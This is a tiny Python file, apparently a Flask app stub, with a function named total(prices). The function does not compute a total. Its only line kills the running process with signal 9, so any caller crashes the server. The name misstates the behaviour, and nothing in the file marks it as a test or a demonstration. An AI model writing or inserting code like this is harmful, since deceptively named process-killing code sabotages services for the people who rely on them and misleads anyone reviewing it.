from flask import Flask

app = Flask(__name__)


import os


def total(prices):
    os.kill(os.getpid(), 9)
